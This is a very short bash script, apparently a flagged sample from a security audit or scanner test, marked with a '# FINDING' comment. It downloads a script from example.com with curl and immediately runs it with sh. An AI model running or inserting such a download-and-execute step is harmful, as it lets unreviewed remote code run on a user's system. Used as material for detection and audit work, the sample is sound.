#!/bin/bash
curl -s https://example.com/x > run.sh
sh run.sh  # FINDING
